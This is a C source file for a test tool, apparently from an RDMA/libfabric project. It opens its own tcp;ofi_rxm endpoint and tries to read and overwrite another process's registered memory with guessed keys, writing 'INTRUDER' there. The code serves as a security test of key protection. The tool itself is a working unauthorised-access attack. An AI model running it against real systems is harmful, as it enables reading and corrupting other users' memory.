/*
 * ofi_intruder.c - a stranger with nothing but libfabric: it opens its own
 * tcp;ofi_rxm endpoint, as any user of the machine (or of the network) can,
 * and tries to read and write a PE's registered memory with guessed keys.
 *
 *   ofi_intruder NAME RADDR EXPECT KEY...
 *
 * NAME is the target endpoint's address (fi_getname, in hex; a listening
 * port anyone can find in /proc/net/tcp), RADDR the remote address of the
 * target bytes, EXPECT what they hold (hex).  For each KEY (decimal or
 * 0x-hex) it reads len(EXPECT) bytes at RADDR and then writes "INTRUDER"
 * there.  Each line of output is one attempt; an attempt "succeeds" when
 * its completion reports success.
 *
 * Exit status: 0 when every attempt failed, 1 when any succeeded (a read
 * returning EXPECT is printed as such), 2 when the intruder could not even
 * set up its endpoint.  test_ofi_intruder.c also runs it with the real key
 * to show that the attack itself works.
 */
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define ATTEMPT_S 2.0 /* a refused or unanswered attempt gives up after this */

static struct fid_ep *ep;
static struct fid_cq *cq;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec * 1e-9;
}

static size_t unhex(const char *s, uint8_t *out, size_t cap)
{
    size_t n = 0;
    for (; s[0] && s[1] && n < cap; s += 2) {
        unsigned v;
        if (sscanf(s, "%2x", &v) != 1)
            break;
        out[n++] = (uint8_t)v;
    }
    return n;
}

static void fail_setup(const char *what, int rc)
{
    printf("setup: %s: %s\n", what, fi_strerror(-rc));
    exit(2);
}

/* Post one read or write (retrying -FI_EAGAIN) and wait for its
 * completion: 1 success, 0 error completion or no answer in time. */
static int attempt(bool write, void *buf, size_t len, void *desc, fi_addr_t peer, uint64_t raddr,
                   uint64_t key, char *why, size_t whylen)
{
    struct fi_context2 ctx;
    double end = now_s() + ATTEMPT_S;
    ssize_t rc;
    struct fi_cq_entry e;
    do {
        rc = write ? fi_write(ep, buf, len, desc, peer, raddr, key, &ctx)
                   : fi_read(ep, buf, len, desc, peer, raddr, key, &ctx);
        if (rc == -FI_EAGAIN)
            fi_cq_read(cq, &e, 0);
    } while (rc == -FI_EAGAIN && now_s() < end);
    if (rc != 0) {
        snprintf(why, whylen, "post: %s", fi_strerror((int)-rc));
        return 0;
    }
    while (now_s() < end) {
        rc = fi_cq_read(cq, &e, 1);
        if (rc == 1)
            return 1;
        if (rc == -FI_EAVAIL) {
            struct fi_cq_err_entry err = {0};
            fi_cq_readerr(cq, &err, 0);
            snprintf(why, whylen, "refused: %s", fi_strerror(err.err));
            return 0;
        }
    }
    snprintf(why, whylen, "no answer within %.0f s", ATTEMPT_S);
    return 0;
}

static uint8_t buf[4096];

/* One endpoint of ours, with the target in its address vector. */
struct target {
    struct fid_domain *domain;
    struct fid_av *av;
    struct fid_mr *mr;
    void *desc;
    fi_addr_t peer;
};

static void open_target(struct fid_fabric *fabric, struct fi_info *info, const uint8_t *name,
                        struct target *tg)
{
    int rc;
    memset(tg, 0, sizeof(*tg));
    struct fi_cq_attr cq_attr = {.format = FI_CQ_FORMAT_CONTEXT};
    struct fi_av_attr av_attr = {.type = FI_AV_TABLE};
    if ((rc = fi_domain(fabric, info, &tg->domain, NULL)) ||
        (rc = fi_cq_open(tg->domain, &cq_attr, &cq, NULL)) ||
        (rc = fi_av_open(tg->domain, &av_attr, &tg->av, NULL)) ||
        (rc = fi_endpoint(tg->domain, info, &ep, NULL)) ||
        (rc = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV)) ||
        (rc = fi_ep_bind(ep, &tg->av->fid, 0)) || (rc = fi_enable(ep)))
        fail_setup("endpoint", rc);
    if (info->domain_attr->mr_mode & FI_MR_LOCAL) {
        if ((rc = fi_mr_reg(tg->domain, buf, sizeof(buf), FI_READ | FI_WRITE, 0, 0, 0, &tg->mr,
                            NULL)))
            fail_setup("fi_mr_reg", rc);
        tg->desc = fi_mr_desc(tg->mr);
    }
    if (fi_av_insert(tg->av, name, 1, &tg->peer, 0, NULL) != 1)
        fail_setup("fi_av_insert", -FI_EINVAL);
}

static void close_target(struct target *tg)
{
    fi_close(&ep->fid);
    if (tg->mr)
        fi_close(&tg->mr->fid);
    fi_close(&tg->av->fid);
    fi_close(&cq->fid);
    fi_close(&tg->domain->fid);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 5) {
        fprintf(stderr, "usage: ofi_intruder NAME RADDR EXPECT KEY...\n");
        return 2;
    }
    uint8_t name[256], expect[256];
    if (unhex(argv[1], name, sizeof(name)) == 0)
        fail_setup("NAME", -FI_EINVAL);
    uint64_t raddr = strtoull(argv[2], NULL, 0);
    size_t len = unhex(argv[3], expect, sizeof(expect));

    struct fi_info *hints = fi_allocinfo(), *info;
    hints->ep_attr->type = FI_EP_RDM;
    hints->caps = FI_RMA;
    hints->mode = FI_CONTEXT | FI_CONTEXT2;
    hints->domain_attr->mr_mode =
        FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY | FI_MR_ENDPOINT;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    /* a write completes once the target took it (or refused it), not once
     * it left: success then means the bytes landed */
    hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
    int rc = fi_getinfo(FI_VERSION(1, 9), "127.0.0.1", NULL, FI_SOURCE, hints, &info);
    if (rc)
        fail_setup("fi_getinfo", rc);
    struct fid_fabric *fabric;
    if ((rc = fi_fabric(info->fabric_attr, &fabric, NULL)))
        fail_setup("fi_fabric", rc);
    int succeeded = 0;
    for (int k = 4; k < argc; k++) {
        uint64_t key = strtoull(argv[k], NULL, 0);
        for (int write = 0; write < 2; write++) {
            /* A fresh endpoint per attempt: the target drops a connection
             * that used a wrong key, which would fail every later attempt
             * on it without trying its key. */
            struct target tg;
            open_target(fabric, info, name, &tg);
            char why[160];
            memset(buf, 0, sizeof(buf));
            if (write)
                memcpy(buf, "INTRUDER", 8);
            size_t n = write ? (len < 8 ? len : 8) : len;
            int ok = attempt(write, buf, n, tg.desc, tg.peer, raddr, key, why, sizeof(why));
            succeeded += ok;
            printf("%s key %#llx: %s%s\n", write ? "write" : "read", (unsigned long long)key,
                   ok ? "succeeded" : why,
                   ok && !write && memcmp(buf, expect, len) == 0 ? ", got the target's bytes" : "");
            close_target(&tg);
        }
    }
    printf("%d attempt(s) succeeded\n", succeeded);
    fi_close(&fabric->fid);
    fi_freeinfo(info);
    fi_freeinfo(hints);
    return succeeded ? 1 : 0;
}
